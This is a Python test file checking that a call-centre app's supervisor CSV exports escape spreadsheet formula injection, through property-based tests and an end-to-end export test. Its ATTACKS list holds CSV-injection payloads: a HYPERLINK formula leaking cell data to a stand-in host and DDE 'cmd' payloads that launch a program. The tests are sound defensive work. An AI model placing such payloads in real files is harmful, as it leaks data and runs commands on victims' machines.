"""CSV exports never hand a spreadsheet a live formula: whatever callers and agents typed, a cell that would run
(= + - @ tab CR first) is exported as text, and everything else comes out exactly as stored."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from test_supervisor import LUCIA, console, simulated_day, sup  # noqa: F401  (fixtures, reused as they are)

from directo.core.models import Customer
from recordings.complaints import flag
from voice.supervisor.call_log import FORMULA_STARTS, PLAIN_NUMBER, spreadsheet_safe

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


@given(st.text())
def test_no_text_comes_out_as_a_formula_and_nothing_else_changes(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert not runs_as_formula(safe)
    assert safe == text or (runs_as_formula(text) and safe == "'" + text)


@given(st.integers() | st.floats(allow_nan=False) | st.none())
def test_values_that_are_not_text_pass_untouched(value) -> None:
    assert spreadsheet_safe(value) is value


def test_both_exports_neutralise_what_callers_and_agents_typed(services, twilio, sup) -> None:  # noqa: F811
    simulated_day(services, twilio)
    with services.db.session() as session:
        session.scalar(select(Customer).where(Customer.phone == LUCIA)).name = ATTACKS[1]
    for sid, summary in (("CA01", ATTACKS[0]), ("CA03", ATTACKS[3])):
        flag(services, sid, "ana" if sid == "CA01" else "bea", summary=summary)
    cells = []
    for export in ("/supervisor/calls.csv", "/supervisor/complaints.csv"):
        rows = list(csv.reader(io.StringIO(sup.get(export).get_data(as_text=True))))
        assert len(rows) > 1, export
        cells += [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if runs_as_formula(cell)] == []
    assert "'" + ATTACKS[0] in cells and "'" + ATTACKS[1] in cells and "'" + ATTACKS[3] in cells
    assert LUCIA in cells, "a caller's number is still a number"
